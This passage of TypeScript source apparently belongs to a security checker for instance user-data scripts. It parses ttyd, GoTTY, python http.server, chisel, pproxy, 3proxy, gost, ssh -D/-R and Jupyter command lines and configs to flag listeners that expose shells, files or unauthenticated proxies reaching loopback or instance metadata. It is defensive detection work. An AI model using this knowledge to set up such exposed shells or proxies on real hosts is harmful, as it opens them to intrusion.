 * -i/--interface "Network interface to bind (eg: eth0), or UNIX domain socket path"). Clients type into it unless it
 * is read-only: ttyd 1.6 writes by default (-R/--readonly stops it), 1.7 only with -W/--writable, and the pack cannot
 * know the version, so only -R is read-only. A -c credential is a password in user data (refused where user data
 * sets one), so it changes nothing.
 */
function ttydListeners(args: readonly string[]): Listener[] {
    const { options, operands } = getopt(
        args,
        "picugswtTIbPCKAdmHU",
        [
            ...["port", "interface", "credential", "uid", "gid", "signal", "cwd", "client-option", "terminal-type"],
            ...["index", "base-path", "ping-interval", "ssl-cert", "ssl-key", "ssl-ca", "debug", "max-clients"],
            ...["auth-header", "socket-owner"],
        ],
        true,
    );
    if (options.some(([k]) => k === "-R" || k === "--readonly")) return [];
    return [
        {
            server: `ttyd ${operands.join(" ")}`,
            binds: optionValues(options, "-i", "--interface").map(interfaceAddress),
            serves: { shell: commandLine(operands) },
        },
    ];
}

/**
 * GoTTY likewise (yudai/gotty README: --address/-a "IP address to listen" default 0.0.0.0; --permit-write/-w "Permit
 * clients to write to the TTY"; --config, a file whose permit_write the pack does not read).
 */
function gottyListeners(args: readonly string[]): Listener[] {
    const { options, operands } = getopt(
        args,
        "apc",
        [
            ...["address", "port", "credential", "random-url-length", "tls-crt", "tls-key", "tls-ca-crt", "index"],
            ...["title-format", "reconnect-time", "max-connection", "timeout", "width", "height", "ws-origin", "term"],
            ...["close-signal", "close-timeout", "config", "path"],
        ],
        true,
    );
    const writes = options.some(
        ([k, v]) => ((k === "-w" || k === "--permit-write") && v !== "false") || k === "--config",
    );
    return writes
        ? [
              {
                  server: `gotty ${operands.join(" ")}`,
                  binds: optionValues(options, "-a", "--address"),
                  serves: { shell: commandLine(operands) },
              },
          ]
        : [];
}

/**
 * Servers run as Python modules (`python3 [options] -m MODULE ARGS`; python(1)'s own flags cluster, -W and -X take
 * values, -c or a script runs no module):
 * - http.server (`[port] [--bind ADDR] [--directory DIR]`; Python docs, http.server: "By default, the server binds
 *   itself to all interfaces", and serves "the current directory if directory is not provided") and Python 2's
 *   SimpleHTTPServer (the working directory, every address);
 * - pyftpdlib's stand-alone FTP server (pyftpdlib docs, "Command line usage": "-i ADDRESS, --interface ADDRESS
 *   specify the interface to run on (default all interfaces)", "-d FOLDER, --directory FOLDER specify the directory
 *   to share (default current directory)"; anonymous read access unless -u/-P);
 * - proxy.py (`python -m proxy`, proxyPyListeners).
 */
function pythonModuleListeners(args: readonly string[], cwd: string | undefined): Listener[] {
    let i = 0;
    let module: string | undefined;
    for (; i < args.length && module === undefined; i++) {
        const option = /^-([bBdEhiIOPqRsSuvVx]*)([cmWX])(.*)$/.exec(args[i]);
        if (!option) {
            if (/^-/.test(args[i]) && args[i] !== "-") continue;
            return [];
        }
        const value = option[3] || (args[++i] ?? "");
        if (option[2] === "c") return [];
        if (option[2] === "m") module = value;
    }
    const rest = args.slice(i);
    if (module === "proxy") return proxyPyListeners(rest);
    if (module === "pyftpdlib") {
        const valued = [
            "interface",
            "port",
            "directory",
            "nat-address",
            "range",
            "username",
            "password",
            "concurrency",
        ];
        const { options } = getopt(
            argparseLongOptions(rest, [...valued, "write", "debug", "verbose", "version", "help"]),
            "ipwdnrDuPVc",
            valued,
        );
        return [
            {
                server: "python -m pyftpdlib (FTP)",
                binds: optionValues(options, "-i", "--interface"),
                serves: { files: servedDirectory(optionValues(options, "-d", "--directory").at(-1), cwd) },
            },
        ];
    }
    if (!HTTP_SERVER_MODULES.test(module ?? "")) return [];
    const { options } = getopt(argparseLongOptions(rest, HTTP_SERVER_LONG_OPTIONS(module ?? "")), "bdp", [
        "bind",
        "directory",
        "protocol",
    ]);
    const directory = optionValues(options, "-d", "--directory").at(-1);
    return [
        {
            server: `python -m ${module}`,
            binds: optionValues(options, "-b", "--bind"),
            serves: { files: servedDirectory(directory, cwd) },
        },
    ];
}

/**
 * proxy.py (abhinavsingh/proxy.py README, "Flags": `--hostname` "Default: 127.0.0.1. Server IP address", `--port`
 * default 8899): an HTTP forward proxy for whoever reaches its address.
 */
function proxyPyListeners(args: readonly string[]): Listener[] {
    const hostnames = args.flatMap((w, i) =>
        w.startsWith("--hostname=") ? [w.slice(11)] : args[i - 1] === "--hostname" ? [w] : [],
    );
    return [
        {
            server: "proxy.py (HTTP proxy)",
            binds: hostnames.length > 0 ? hostnames : ["127.0.0.1"],
            serves: { proxy: true },
        },
    ];
}

/**
 * Caddy's `caddy file-server` (Caddy docs, "Command Line": "--root specifies the root file path. Default is the
 * current working directory", "--listen accepts a listener address. Default is :80, unless --domain is set"; Go's
 * empty host is every address): the files of its root. Its other commands read a Caddyfile or JSON the pack does not
 * (unreadListeners decides on their addresses; reverse-proxy to instance metadata is a relay, namesImds).
 */
function caddyListeners(args: readonly string[], cwd: string | undefined): Listener[] {
    const { options, operands } = getopt(args, "rldpc", ["root", "listen", "domain", "precompressed", "file-limit"]);
    if (operands[0] !== "file-server") return unreadListeners("caddy", args);
    const listen = optionValues(options, "-l", "--listen");
    return [
        {
            server: "caddy file-server",
            binds: listen.length > 0 ? listen : [":80"],
            serves: { files: servedDirectory(optionValues(options, "-r", "--root").at(-1), cwd) },
        },
    ];
}

/**
 * Prometheus' node_exporter (prometheus/node_exporter README: "--web.listen-address" default ":9100"): it serves only
 * the node's metrics, and its textfile collector reads `*.prom` metric files only (README, "Textfile Collector"): no
 * file content, shell or proxy. A listener that serves nothing custody.
 */
const nodeExporterListeners = (): Listener[] => [];

/** A server's directory: `given` resolved from the working directory, which it is by default; undefined if unknown. */
const servedDirectory = (given: string | undefined, cwd: string | undefined) =>
    given?.startsWith("/") ? posix.resolve(given) : cwd === undefined ? undefined : posix.resolve(cwd, given ?? ".");

/** busybox httpd's default root configuration file (httpd.c DEFAULT_PATH_HTTPD_CONF "/etc", HTTPD_CONF). */
const BUSYBOX_HTTPD_CONF = "/etc/httpd.conf";

/**
 * What busybox httpd serves by its command line and its root configuration (httpd.c: "-c FILE Configuration file
 * (default {/etc,HOME}/httpd.conf)", "-h HOME Home directory (default .)"; parse_conf reads -c FILE, else
 * /etc/httpd.conf, after changing to HOME, and only these honour `H:/serverroot` ("define the server root. It will
 * override -h"; relative to the directory before it) and `P:/url:[http://]hostname[:port]/new/path` ("When
 * /urlXXXXXX is requested, reverse proxy it", FEATURE_HTTPD_PROXY; port 80 by default): HOME's own httpd.conf is
 * read without them, `flag == FIRST_PARSE`). Its home (undefined when the pack cannot know it) and the loopback ends
 * its proxies reach. A /etc/httpd.conf user data does not write is the AMI's (AL2023 has none: its Apache's is
 * /etc/httpd/conf/httpd.conf); a -c FILE it does not write, or a file it changes in a way the pack cannot compute
 * (readConfig), may hold any H: and P: line: a home the pack cannot know and a proxy to any loopback end, as
 * configuredListeners fails closed.
 */
function busyboxHttpdConfig(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { home: string | undefined; proxies: LoopbackEnd[] } {
    const { options } = getopt(args, "cpuhrmde", []);
    let home = servedDirectory(optionValues(options, "-h").at(-1), cwd);
    const given = optionValues(options, "-c").at(-1);
    const path = given === undefined ? BUSYBOX_HTTPD_CONF : servedDirectory(given, home);
    const text = path === undefined ? null : readConfig(path, fileText, view);
    if (text === null || (text === undefined && given !== undefined)) return { home: undefined, proxies: [{}] };
    const proxies: LoopbackEnd[] = [];
    // Whitespace and `#` comments dropped; the directive is the first letter, either case (parse_conf).
    for (const line of (text ?? "").split(/\r?\n/).map(l => l.replace(/#.*$/, "").replace(/\s+/g, ""))) {
        const value = line.slice(line.indexOf(":") + 1);
        if (!line.includes(":") || value === "") continue;
        if (/^h$/i.test(line[0])) home = home === undefined ? undefined : servedDirectory(value, home);
        const proxy = /^p$/i.test(line[0]) ? /^[^:]*:(?:http:\/\/)?([^/]+)\//.exec(value) : null;
        const to = proxy ? loopbackEnd(proxy[1], 80) : undefined;
        if (to) proxies.push(to);
    }
    return { home, proxies };
}

/**
 * busybox httpd (usage: "-p [IP:]PORT  Bind to IP:PORT (default *:80)"; its home by busyboxHttpdConfig; -i is
 * inetd's, -m/-d/-e only encode and exit). Only busybox's applet: Apache's httpd reads its configuration. Its P:
 * proxies are commandForwarders'.
 */
function busyboxHttpdListeners(
    args: readonly string[],
    cwd: string | undefined,
    _: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): Listener[] {
    const { options } = getopt(args, "cpuhrmde", []);
    if (options.some(([k]) => /^-[imde]$/.test(k))) return [];
    return [
        {
            server: "busybox httpd",
            binds: optionValues(options, "-p"),
            serves: { files: busyboxHttpdConfig(args, cwd, fileText, view).home },
        },
    ];
}

/** exportfs(8) `-o OPTIONS CLIENT:/PATH` (an empty client, or `*`, is every host); -u unexports. */
function exportfsListeners(args: readonly string[]): Listener[] {
    const { options, operands } = getopt(args, "od", []);
    if (options.some(([k]) => k === "-u")) return [];
    return operands.flatMap(op => {
        const m = /^(.*):(\/[^:]*)$/.exec(op);
        return m
            ? [{ server: `an NFS export (exportfs ${op})`, binds: [], allowed: [m[1] || "*"], serves: { files: m[2] } }]
            : [];
    });
}

/**
 * chisel's server (chisel README, `chisel server --help`: "--host, Defines the HTTP listening host – the network
 * interface (defaults the environment variable HOST and falls back to 0.0.0.0)", "--port, -p, Defines the HTTP
 * listening port (defaults to the environment variable PORT and fallsback to port 8080)", "--auth ... (defaults to the
 * AUTH environment variable)", "--authfile"): without auth any client opens forward remotes the server dials, instance
 * metadata and the node's loopback among them, a forward proxy. Its client's reverse remotes are relays
 * (dialledOutForwarders); its client's own listeners relay to the server's side, not the node's.
 */
function chiselListeners(args: readonly string[]): Listener[] {
    if (args[0] !== "server") return [];
    const { options } = getopt(goFlags(args.slice(1)), "p", CHISEL_SERVER_VALUES);
    if (optionValues(options, "--auth", "--authfile").some(v => v !== "")) return [];
    return [
        {
            server: "chisel server (no --auth)",
            // The last --host wins (HOST from the environment comes first: rootReads.ts environmentOptions).
            binds: optionValues(options, "--host").slice(-1),
            port: optionValues(options, "-p", "--port").at(-1) ?? "8080",
            serves: { proxy: true },
        },
    ];
}

/**
 * pproxy's listeners (qwj/python-proxy README: "-l LISTEN tcp server uri (default: http+socks4+socks5://:8080/)", "-ul"
 * UDP; URI `{scheme}://[{cipher}@]{netloc}/...#{auth}`, an empty host every address): each a proxy unless `#user:pass`
 * authenticates its clients or a shadowsocks cipher key (`ss://cipher:key@`) does. A `tunnel{HOST:PORT}` scheme's fixed
 * relay is read as a proxy too, failing closed.
 */
function pproxyListeners(args: readonly string[]): Listener[] {
    const uris = args.flatMap((w, i) => {
        const m = /^-u?l(?:=?(.+))?$/.exec(w);
        return m ? [m[1] ?? args[i + 1] ?? ""] : [];
    });
    return (uris.length > 0 ? uris : ["http+socks4+socks5://:8080/"]).flatMap(uri => {
        const m = /^([^:/]*):\/\/(?:([^@/#]*)@)?([^/#?]*)[^#]*(?:#(.*))?$/.exec(uri);
        if (m && ((m[4] ?? "") !== "" || (/^ssr?$/i.test(m[1]) && (m[2] ?? "").includes(":")))) return [];
        const netloc = m?.[3] ?? "";
        return [
            {
                server: `pproxy -l ${uri}`,
                binds: [netloc.startsWith(":") ? `0.0.0.0${netloc}` : netloc],
                serves: { proxy: true as const },
            },
        ];
    });
}

/** 3proxy.cfg(3) services that proxy whatever host a client names (proxy(8), socks(8), ...), with their default ports. */
const THREE_PROXY_SERVICES: Record<string, string> = {
    proxy: "3128",
    socks: "1080",
    auto: "3129",
    admin: "80",
    ftppr: "21",
    pop3p: "110",
    smtpp: "25",
    tlspr: "1443",
};

/**
 * The services of 3proxy's configuration (3proxy(8): `3proxy [config_file]`; 3proxy.cfg(3): each line a command, run in
 * order; a service command (`proxy -p3128 -i127.0.0.1`, `tcppm -iIP LOCALPORT DSTHOST DSTPORT`) listens on its -i
 * address, else `internal`'s, else every address (proxy(8) "-i Internal address ... By default connection to any
 * interface is accepted. It's usually unsafe."); `auth` sets its clients' authentication, `none` by default, `strong`
 * (with `cache`) a user's password, the rest (iponly, useronly, nbname, dnsname) no password. Undefined: a
 * configuration the pack does not read (not written, changed, stdin, `$file` inclusions in the lines that count).
 */
function threeProxyServices(
    args: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { service: string; binds: string[]; port?: string; authenticated: boolean; operands: string[] }[] | undefined {
    const path = args.find(a => !a.startsWith("-"));
    const text = path === undefined ? undefined : readConfig(posix.normalize(path), fileText, view);
    if (typeof text !== "string") return undefined;
    let internal: string[] = [];
    let authenticated = false;
    const services = [];
    for (const raw of text.split(/\r?\n/)) {
        const words = raw.replace(/^\s*#.*$/, "").match(/"(?:[^"]|"")*"|\S+/g) ?? [];
        const [command = "", ...rest] = words.map(w => w.replace(/^"|"$/g, ""));
        const service = command in THREE_PROXY_SERVICES || /^(tcppm|udppm|dnspr)$/.test(command);
        if ((service || /^(auth|internal|include|config)$/.test(command)) && raw.includes("$")) return undefined;
        if (/^(include|config)$/.test(command)) return undefined;
        if (command === "internal") internal = rest.slice(0, 1);
        if (command === "auth") authenticated = rest.length > 0 && rest.every(m => /^(strong|cache)$/.test(m));
        if (!service) continue;
        // proxy(8) "-l[[@]logfile]": -l takes an optional log file glued to it, never letters read as options.
        const { options, operands } = getopt(
            rest.map(w => (/^-l./.test(w) ? "-l" : w)),
            "iep",
        );
        const binds = optionValues(options, "-i");
        services.push({
            service: command,
            binds: binds.length > 0 ? binds : internal,
            port: optionValues(options, "-p").at(-1) ?? THREE_PROXY_SERVICES[command],
            authenticated,
            operands,
        });
    }
    return services;
}

/** 3proxy's proxy services (threeProxyServices) without a password; a configuration it does not read, any. */
function threeProxyListeners(
    args: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): Listener[] {
    const services = threeProxyServices(args, fileText, view);
    if (services === undefined)
        return [
            {
                server: `3proxy ${args.join(" ")} (a configuration the pack does not read)`,
                binds: [],
                serves: { proxy: true },
            },
        ];
    return services
        .filter(s => s.service in THREE_PROXY_SERVICES && !s.authenticated)
        .map(s => ({ server: `3proxy ${s.service}`, binds: s.binds, port: s.port, serves: { proxy: true } }));
}

/** microsocks, a SOCKS5 proxy (rofl0r/microsocks README: "by default listenip is 0.0.0.0 and port 1080"). */
function microsocksListeners(args: readonly string[]): Listener[] {
    const { options } = getopt(args, "ipuPbw", []);
    return [{ server: "microsocks (SOCKS5)", binds: optionValues(options, "-i"), serves: { proxy: true } }];
}

/**
 * gost's -L listeners (ginuerzh/gost README: `-L [scheme://][user:pass@host]:port`, no scheme serving HTTP and SOCKS5
 * both): a proxy unless it forwards to a fixed target (tcp://, udp://, rtcp://, rudp:// and `/target`); a -C
 * configuration the pack does not read listens where it says.
 */
function gostListeners(args: readonly string[]): Listener[] {
    const { options } = getopt(args, "LFCM", []);
    return options.flatMap(([k, raw]): Listener[] => {
        const value = raw.replace(/^=/, "");
        if (k === "-C")
            return [
                { server: `gost -C ${value} (listeners the pack does not read)`, binds: [], serves: { proxy: true } },
            ];
        if (k !== "-L") return [];
        const m = /^(?:([a-z0-9+]+):\/\/)?(?:[^@/]*@)?([^/?]*)(\/[^?]*)?/i.exec(value)!;
        if (/^(tcp|udp|rtcp|rudp)$/i.test(m[1] ?? "") || (m[3] ?? "").length > 1) return [];
        return [{ server: `gost -L ${value}`, binds: [m[2]], serves: { proxy: true } }];
    });
}

/**
 * ssh -D [bind_address:]port, a SOCKS proxy through the connection (ssh(1): "By default, the local port is bound in
 * accordance with the GatewayPorts setting ... an empty address or '*' indicates that the port should be available
 * from all interfaces"; -g and GatewayPorts yes bind every address). Whoever connects reaches what the remote end
 * reaches as the node's SSH identity: the node itself (its instance metadata) when it is localhost.
 */
function sshListeners(args: readonly string[]): Listener[] {
    const { options, operands, setting, gateway } = sshCommand(args);
    const destination = sshDestination(operands);
    return [
        ...[...optionValues(options, "-D"), ...setting("DynamicForward")].map(forward => {
            const m = /^(?:\[([^\]]*)\]|(.*?))[:/](\d+)$/.exec(forward);
            const address = m ? (m[1] ?? m[2]) : gateway ? "*" : "localhost";
            return {
                server: `ssh -D ${forward}`,
                binds: [address === "" ? "*" : address],
                serves: { proxy: true as const },
            };
        }),
        // ssh(1) -R "[bind_address:]port": "if no explicit destination was specified, ssh will act as a SOCKS 4/5 proxy
        // and forward connections to the destinations requested by the remote SOCKS client": a SOCKS proxy on the
        // destination (another host's) reaching whatever the node reaches, its loopback and instance metadata.
        ...[...optionValues(options, "-R"), ...setting("RemoteForward")]
            .filter(spec => reverseSocks(spec))
            .map(spec => ({
                server: `ssh -R ${spec}, a SOCKS proxy on ${destination} reaching the node's network`,
                binds: [loopbackOnly([destination]) ? destination : `${destination} (another host)`],
                serves: { proxy: true as const },
            })),
    ];
}

/** An ssh -R (RemoteForward) specification naming only `[bind_address:]port`: a reverse dynamic (SOCKS) forward. */
const reverseSocks = (spec: string) => /^(?:(?:\[[^\]]*\]|[^:\s]*):)?\d+$/.test(spec.trim());
/** ssh's destination host (`[user@]host`, `ssh://[user@]host[:port]`). */
const sshDestination = (operands: readonly string[]) =>
    (operands[0] ?? "")
        .replace(/^ssh:\/\//, "")
        .replace(/^.*@/, "")
        .replace(/:\d+$/, "");

/**
 * Dropbear's dbclient as ssh (dbclient(1): -L and -R "[listenaddress:]listenport:host:port" as ssh's, -g, -N, -f, -T,
 * -p, -l, -i, -J, -o, -b, -B alike), less its -K keepalive, which takes a value ssh's -K does not.
 */
const dropbearSshArgs = (args: readonly string[]) => args.filter((w, i) => !/^-K/.test(w) && args[i - 1] !== "-K");

/**
 * ssh's command line (ssh(1) SYNOPSIS: the options taking a value, read after the destination too; `-o Key=Value`
 * settings, the first one given wins; -g or GatewayPorts yes binds forwarded ports on every address): its options and
 * operands (the destination first).
 */
function sshCommand(args: readonly string[]) {
    const { options, operands } = getopt(args, "BbcDEeFIiJLlmOopQRSWw", []);
    const settings = optionValues(options, "-o").map(o => /^\s*(\w+)\s*[= ]\s*(.*)$/.exec(o) ?? ["", "", ""]);
    const setting = (key: string) =>
        settings.filter(([, k]) => k.toLowerCase() === key.toLowerCase()).map(([, , v]) => v.trim());
    const gateway = options.some(([k]) => k === "-g") || /^yes$/i.test(setting("GatewayPorts")[0] ?? "");
    return { options, operands, setting, gateway };
}

/** `--name=value` or `--name value` of a traitlets or argparse command line, for each name matched. */
const longValues = (args: readonly string[], name: RegExp) =>
    args.flatMap((w, i) => {
        const m = /^--([^=]+)(=([\s\S]*))?$/.exec(w);
        return m && name.test(m[1]) ? [m[2] !== undefined ? m[3] : (args[i + 1] ?? "")] : [];
    });

/**
 * What a server's configuration reader needs of the script besides the files it wrote (fileText): the files it changed
 * in a way the pack cannot compute (edited in place, appended to, written by a program: viewingJudge), and the
 * values it assigns to environment variables anywhere (an assignment before a command, export, env, a unit's
 * Environment=), undefined for a value the pack cannot compute. The pack cannot tie an assignment to the process that
 * inherits it, so a reader takes every value as possibly its own.
 */
interface ScriptView {
    /**
     * Whether user data changed `path` in a way the pack cannot compute; with `within`, a command only naming a
     * directory above `within` does not count (`python3 -m venv /opt/jupyter` makes the venv, not its etc/jupyter).
     */
    changed: { has(path: string, within?: string): boolean };
    environment: ReadonlyMap<string, readonly (string | undefined)[]>;
    /** The prefixes X of the Jupyter executables the script runs (`X/bin/jupyter*`, `X/bin/python* -m ...`). */
    jupyterPrefixes?: readonly string[];
    /** The files user data wrote so far, whole or in a way the pack cannot compute (appSettingsListeners' listing). */
    written?: () => Iterable<string>;
    /** A file's text as user data last wrote it whole, when nothing changed it since (undefined otherwise). */
    text?: (path: string) => string | undefined;
    /**
     * The ASP.NET Core environment names a command's environment gives it (unitAspNetEnvironments), when that
     * environment is fully known (a systemd unit's); undefined for any other command (appSettingsListeners).
     */
    aspNetEnvironments?: readonly string[];
    /**
     * The Java feature release of each JDK user data installs, unpacks or links (installedJavaReleases), undefined for one the pack
     * cannot tell: what a `java` found on PATH may be (javaRelease).
     */
    javaReleases?: readonly (number | undefined)[];
    /**
     * The names each path was copied, moved, linked or downloaded from (scriptDownloads, copiedFrom: a URL's file name,
     * a source path's, and that source's own), whatever user data named the file: the program it is (remoteAgent).
     */
    downloads?: ReadonlyMap<string, readonly string[]>;
    /** The programs user data built from sources the pack reads, by path, with the listeners of running them (builtPrograms). */
    built?: ReadonlyMap<string, Listener[]>;
}
const NO_VIEW: ScriptView = { changed: new Set(), environment: new Map() };

/** A configuration file as the server finds it: its text, null when its content is unknown, undefined when unwritten. */
function readConfig(
    path: string,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    within?: string,
): string | null | undefined {
    return view.changed.has(path, within) ? null : fileText?.(path);
}

/** The Jupyter Server applications (`jupyter X`, `jupyter-X`): Terminals and kernels behind a token or password. */
const JUPYTER_SERVERS = /^(notebook|lab|server|nbclassic)$/;
/** Jupyter's kernel gateways: kernels on request, authenticated only by `auth_token` (default empty). */
const JUPYTER_GATEWAYS = /^(kernelgateway|enterprisegateway)$/;
/** `jupyter X` subcommands that serve nothing (`jupyter --help`), and an application's own that serve nothing. */
const JUPYTER_CLIENTS =
    /^(nbconvert|kernelspec|kernel|console|qtconsole|troubleshoot|migrate|trust|execute|run|labextension|serverextension|nbextension|bundlerextension|events|book)$/;
const JUPYTER_APP_COMMANDS = /^(extension|build|clean|list|stop|password|paths?|workspaces?|licenses|armor)$/;
/** `python -m MODULE` for each Jupyter application (JupyterLab docs, "Starting JupyterLab"; each package's __main__). */
const JUPYTER_MODULES: Record<string, string> = {
    jupyterlab: "lab",
    notebook: "notebook",
    jupyter_server: "server",
    nbclassic: "nbclassic",
    kernel_gateway: "kernelgateway",
    enterprise_gateway: "enterprisegateway",
};
/**
 * Jupyter's configuration directories as root sees them (Jupyter docs, "Common Directories and File Locations":
 * ~/.jupyter or JUPYTER_CONFIG_DIR, then {sys.prefix}/etc/jupyter, /usr/local/etc/jupyter, /etc/jupyter) and the files
 * the applications load there ("Jupyter's Common Configuration Approach": jupyter_{application}_config.py or .json;
 * jupyter_config for every application).
 */
const JUPYTER_CONFIG_DIRS = ["/root/.jupyter", "/usr/local/etc/jupyter", "/etc/jupyter", "/usr/etc/jupyter"];
/** The configuration files a Jupyter application loads, the base `jupyter_config` first (jupyter_core application.py). */
const JUPYTER_CONFIG_APPS = [
    ...["config", "server_config", "notebook_config", "lab_config", "nbclassic_config"],
    ...["kernel_gateway_config", "enterprise_gateway_config"],
];
const JUPYTER_CONFIG_NAMES = JUPYTER_CONFIG_APPS.flatMap(app => [`jupyter_${app}.py`, `jupyter_${app}.json`]);

/** One piece of Python source: code, a string literal (its quotes included) or a comment (without its newline). */
interface PythonPiece {
    kind: "code" | "string" | "comment";
    text: string;
    /** A string literal with an `f` prefix: its replacement fields are code (Python reference, "f-strings"). */
    formatted: boolean;
}

/**
 * Python source split into code, string literals and comments (Python reference, "Lexical analysis": "A comment starts
 * with a hash character (#) that is not part of a string literal, and ends at the end of the physical line"; "String
 * and Bytes literals", triple quotes too, a backslash escaping the next character). A one-quote string ends with its
 * line at the latest (one that does not close there is a SyntaxError, no string Python runs). The one lexer of
 * pythonCode and pythonStringsBlanked.
 */
function pythonPieces(text: string): PythonPiece[] {
    const pieces: PythonPiece[] = [];
    let start = 0;
    const push = (kind: PythonPiece["kind"], end: number, formatted = false) => {
        if (end > start) pieces.push({ kind, text: text.slice(start, end), formatted });
        start = end;
    };
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (ch === "#") {
            push("code", i);
            const eol = text.indexOf("\n", i);
            i = eol < 0 ? text.length : eol;
            push("comment", i);
            i--;
        } else if (ch === "'" || ch === '"') {
            push("code", i);
            const formatted = /(?<![\w])[rRbBuU]?[fF][rRbB]?$/.test(text.slice(Math.max(0, i - 3), i));
            const quote = text.startsWith(ch.repeat(3), i) ? ch.repeat(3) : ch;
            let j = i + quote.length;
            while (j < text.length && !text.startsWith(quote, j) && !(quote.length === 1 && text[j] === "\n"))
                j += text[j] === "\\" ? 2 : 1;
            if (text.startsWith(quote, j)) j += quote.length;
            j = Math.min(j, text.length);
            push("string", j, formatted);
            i = j - 1;
        }
    }
    push("code", text.length);
    return pieces;
}

/**
 * Python source without its comments (pythonPieces): what the script readers read as code. String literals, triple-
 * quoted ones too, are kept whole, a `#` in them too.
 */
function pythonCode(text: string): string {
    return pythonPieces(text)
        .filter(piece => piece.kind !== "comment")
        .map(piece => piece.text)
        .join("");
}

/**
 * The statements of a Python configuration file (Python reference, "Simple statements": statements on one line are
 * separated by `;`; a newline inside brackets or after a backslash continues the statement; comments dropped:
 * pythonCode). Quotes and brackets are tracked, triple quotes too.
 */
function pythonStatements(source: string): string[] {
    return pythonLogicalStatements(source).map(st => st.text);
}

/**
 * The simple statements of Python source, each with its line's indentation and `suite` when it follows a compound
 * statement's header on the same line (Python reference "Compound statements": "A suite can be one or more
 * semicolon-separated simple statements on the same line as the header, following the header's colon", as in
 * `if x: NAME = 1`, `try: NAME = f()`, `else: NAME = 2`): the header itself is a statement too, and so is each
 * statement after it on that line. A line inside open brackets (a parameter's default on its own line within
 * `def f(\n  x="..."\n):`) is no statement (Python reference "Implicit line joining").
 */
function pythonLogicalStatements(source: string): { text: string; indent: number; suite: boolean }[] {
    const text = pythonCode(source);
    const out: { text: string; indent: number; suite: boolean }[] = [];
    let current = "";
    let depth = 0;
    let quote = "";
    let indent = 0;
    let suite = false;
    const push = () => {
        let st = current.trim();
        current = "";
        while (st !== "") {
            const header = pythonHeaderColon(st);
            if (header < 0) {
                out.push({ text: st, indent, suite });
                return;
            }
            out.push({ text: st.slice(0, header + 1).trim(), indent, suite });
            st = st.slice(header + 1).trim();
            suite = true;
        }
    };
    for (let i = 0; i < text.length; i++) {
        const ch = text[i];
        if (quote !== "") {
            if (ch === "\\") {
                current += text.slice(i, i + 2);
                i++;
                continue;
            }
            if (text.startsWith(quote, i)) {
                current += quote;
                i += quote.length - 1;
                quote = "";
                continue;
            }
            current += ch;
            continue;
        }
        if (ch === "'" || ch === '"') {
            quote = text.startsWith(ch.repeat(3), i) ? ch.repeat(3) : ch;
            current += quote;
            i += quote.length - 1;
        } else if (ch === "\\" && text[i + 1] === "\n") i++;
        else if ((ch === ";" || ch === "\n") && depth === 0) {
            push();
            if (ch === "\n") {
                suite = false;
                indent = /^[ \t]*/.exec(text.slice(i + 1))?.[0].length ?? 0;
            }
        } else {
            if ("([{".includes(ch)) depth++;
            if (")]}".includes(ch)) depth = Math.max(0, depth - 1);
            current += ch;
        }
    }
    push();
    return out.filter(st => st.text !== "");
}

/** Keywords opening a compound statement's header (Python reference "Compound statements"; match and case soft). */
const PYTHON_COMPOUND =
    /^(?:if|elif|else|try|except\*?|finally|while|for|with|def|class|async[ \t]+(?:def|for|with)|(?:match|case)(?![ \t]*(?:[=.,:)\]]|$)))\b/;

/**
 * The indexes of `text`'s characters outside strings and brackets (a quote or bracket itself excluded): where Python's
 * top-level separators may stand.
 */
function* pythonTopLevel(text: string): Generator<number> {
    let depth = 0;
    let quote: string | undefined;
    for (let i = 0; i < text.length; i++) {
        const c = text[i];
        if (quote !== undefined) {
            if (c === "\\") i++;
            else if (c === quote) quote = undefined;
        } else if (c === '"' || c === "'") quote = c;
        else if ("([{".includes(c)) depth++;
        else if (")]}".includes(c)) depth--;
        else if (depth === 0) yield i;
    }
}

/** Where a compound statement's header ends: its colon outside strings and brackets (not `:=`), else -1. */
function pythonHeaderColon(st: string): number {
    if (!PYTHON_COMPOUND.test(st)) return -1;
    for (const i of pythonTopLevel(st)) if (st[i] === ":" && st[i + 1] !== "=") return i;
    return -1;
}

/**
 * The assignment operators of a statement: each `=` outside strings and brackets that is no comparison (==, <=, >=,
 * !=), walrus (:=) or augmented assignment (+=, //=, ...): `a = b = 1` has two, a call's keyword argument none.
 */
function pythonAssignOperators(st: string): number[] {
    const out: number[] = [];
    let skip = -1;
    for (const i of pythonTopLevel(st)) {
        if (i === skip || st[i] !== "=") continue;
        if (st[i + 1] === "=" || /[=<>!:+\-*/%@&|^]/.test(st[i - 1] ?? "")) {
            if (st[i + 1] === "=") skip = i + 1;
            continue;
        }
        out.push(i);
    }
    return out;
}

/**
 * The `Class.trait` settings of a Jupyter configuration file: a .json file's {Class: {trait: value}}, a .py file's
 * `c.Class.trait = literal` statements (traitlets config; a value that is no literal is undefined, unknown), each
 * statement of a line read (pythonStatements). A file the reader cannot read whole is undefined: a .json file that
 * does not parse, or a .py file with a statement other than such an assignment or `c = get_config()` (an import, a
 * call, a condition may set any trait).
 */
function jupyterConfigSettings(path: string, text: string): [string, string | undefined][] | undefined {
    if (!path.endsWith(".json"))
        try {
            return pythonStatements(text).flatMap((st): [string, string | undefined][] => {
                if (/^c\s*=\s*get_config\(\s*\)$/.test(st)) return [];
                const m = /^c\.(\w+)\.(\w+)\s*(\S?=)\s*([\s\S]*)$/.exec(st);
                if (!m || m[3] === "==") throw new Error(`not read: ${st}`);
                const [, cls, trait, op, v] = m;
                const literal = /^[ubrUBR]?(['"])(.*)\1$/.exec(v);
                const known = op === "=" && (literal || /^(True|False|-?\d+)$/.test(v));
                return [[`${cls}.${trait}`, known ? (literal ? literal[2] : v) : undefined]];
            });
        } catch {
            return undefined;
        }
    try {
        return Object.entries(obj(JSON.parse(text))).flatMap(([cls, traits]) =>
            Object.entries(obj(traits)).map(([trait, v]): [string, string | undefined] => [
                `${cls}.${trait}`,
                v === null || typeof v === "object" ? undefined : String(v),
            ]),
        );
    } catch {
        return undefined;
    }
}

/**
 * Jupyter's servers, by application (`jupyter X`, `jupyter-X`, `python -m jupyterlab|notebook|jupyter_server|...`),
 * their settings from the configuration files user data writes where they look (JUPYTER_CONFIG_DIRS, `--config`),
 * then from the command line (Jupyter docs, "Jupyter's Common Configuration Approach": command line options override
 * config files):
